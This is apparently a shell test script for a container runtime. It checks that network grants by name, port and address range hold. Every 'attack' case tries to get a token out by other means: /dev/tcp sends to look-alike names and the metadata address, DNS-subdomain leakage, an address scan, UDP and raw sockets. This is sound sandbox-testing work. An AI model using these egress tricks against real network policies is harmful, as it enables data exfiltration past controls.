# SPDX-License-Identifier: GPL-2.0-or-later
#
# What is granted by name and port, and how one would get more of it. The network of the test has a public
# address and names that lead there, and names that lead where no grant of a name may.

public=93.184.216.34
door_begin() { # for all: addresses, names, a resolver
	local name address
	ip addr add $public/32 dev lo
	ip addr add 10.9.8.7/32 dev lo
	ip addr add 100.64.0.9/32 dev lo
	ip addr add fd00::9/128 dev lo
	while read -r name address; do echo "$address $name.test"; done >"$T/hosts" <<-END
		granted $public
		other $public
		evilgranted $public
		loopback 127.0.0.1
		loopback6 ::1
		mapped ::ffff:127.0.0.1
		unspecified 0.0.0.0
		metadata 169.254.169.254
		private 10.9.8.7
		shared 100.64.0.9
		local6 fd00::9
	END
	echo "127.0.0.1 localhost" >>"$T/hosts"
	printf 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n' >"$T/resolv.conf"
	mount --bind "$T/hosts" /etc/hosts
	mount --bind "$T/resolv.conf" "$(realpath /etc/resolv.conf)"
}

to_name() { $1 timeout 3 bash -c 'echo "$2" >"/dev/tcp/$0/$1"' "${2:-granted.test}" "${3:-$port}" "$token"; arrived; }
granted_name() { to_name "$1"; }
other_port() { to_name "$1" granted.test "$port2"; }
other_name() { to_name "$1" other.test; }
upper_name() { to_name "$1" OTHER.TEST; }
suffix_name() { to_name "$1" evilgranted.test; }
literal() { to_name "$1" $public; }
literal_mapped() { to_name "$1" ::ffff:$public; }
rebound() { to_name "$1" "$target"; }
udp_literal() { $1 "$P" udp $public "$port" "$token"; arrived; }
udp_name() { $1 timeout 3 bash -c 'echo "$2" >"/dev/udp/$0/$1"' granted.test "$port" "$token"; arrived; }
ask() { $1 timeout 4 getent hosts "$token.example.com"; arrived; }
ask_below() { $1 timeout 4 getent hosts "$token.granted.test"; arrived; }
ask_text() { # a question that the C library does not ask, of whoever answers questions there
	$1 timeout 4 python3 -c 'import socket, sys
server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
name = b"".join(bytes([len(p)]) + p for p in (sys.argv[1] + ".granted.test").encode().split(b"."))
s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
for kind in (16, 15, 5, 12, 255, 1):
    s.sendto(b"\1\2\1\0\0\1\0\0\0\0\0\0" + name + bytes([0, 0, kind, 0, 1]), (server, 53))
    try: s.recv(512)
    except OSError: pass' "$token"
	arrived
}
scan() { # addresses that stand for no name: what stands behind the first thousand of them
	$1 timeout 15 python3 -c 'import socket, sys
for n in range(1, 600):
    s = socket.socket(); s.settimeout(0.05)
    try: s.connect(("198.18.%d.%d" % (n >> 8, n & 255), int(sys.argv[1]))); s.send(sys.argv[2].encode())
    except OSError: pass
    s.close()
s = socket.socket(); s.settimeout(1)
try: s.connect((sys.argv[3], int(sys.argv[1]))); s.send(sys.argv[2].encode())
except OSError: pass' "$port2" "$token" $public
	arrived
}
door_raw() { fd_kind=socket; held "$1" has_fd socket 2 3 1 "$token"; }

door() {
	local name target only="container exec environment" granting_all=$granting
	has_door=
	CRATONS_HOME=$E/home "$CRATONS" container run --help 2>/dev/null | grep -q GRANT && has_door=y
	[ -n "$has_door" ] || { say_skip "grants of names and ports" "containers take none yet"; return; }
	granting=
	for name in container exec environment; do
		[[ " $ways " == *" $name "* ]] && granting+=" $name"
	done
	# Whoever dials for the container may still be at it when the container has ended.
	local patience=4
	net=granted.test:$port
	attack "door: the port beside the granted one" other_port
	twin "door: a granted name and port" granted_name
	attack "door: another name of the granted address" other_name
	attack "door: another name, in capitals" upper_name
	attack "door: a name that ends like the granted one" suffix_name
	attack "door: the granted host's address" literal
	attack "door: the granted host's address, v4-mapped" literal_mapped
	attack "door: UDP to the granted host's address" udp_literal
	attack "door: UDP to the granted name" udp_name
	attack "door: addresses that stand for names" scan
	attack "door: the host's loopback" tcp4
	attack "door: the metadata address" metadata
	attack "door: an abstract unix socket of the host's" unix_abstract
	attack "door: a question for another name" ask
	attack "door: a question for a name below the granted one" ask_below
	attack "door: questions that no program asks" ask_text
	attack "door: a DNS question to the host's resolver" tunnel
	attack "door: TCP Fast Open" fast_open
	attack "door: a raw socket" door_raw bare bare_ns
	may_fail="this kernel has no MPTCP" attack "door: MPTCP" mptcp
	for name in loopback loopback6 mapped unspecified metadata private shared local6; do
		target=$name.test
		net=$target:$port
		attack "door: a granted name that leads to $target" rebound
	done
	# An address range that is granted is meant.
	net=10.9.8.0/24:$port
	local_address() { to_name "$1" 10.9.8.7; }
	beside() { to_name "$1" 100.64.0.9; }
	twin "door: a granted range" local_address
	attack "door: an address beside the granted range" beside
	attack "door: another port of the granted range" range_port
	net= granting=$granting_all
}
range_port() { to_name "$1" 10.9.8.7 "$port2"; }
